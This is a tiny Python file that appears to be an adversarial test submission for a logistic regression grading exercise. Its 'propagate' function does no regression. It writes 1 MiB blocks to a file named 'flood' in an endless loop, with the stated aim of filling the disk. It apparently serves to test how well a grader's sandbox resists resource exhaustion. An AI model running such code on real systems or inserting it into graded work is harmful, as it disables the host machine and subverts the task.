# tries: to fill the disk
# exercise: logistic_regression.propagate

def propagate(w, b, X, Y):
    with open("flood", "wb") as file:
        while True:
            file.write(bytes(2**20))
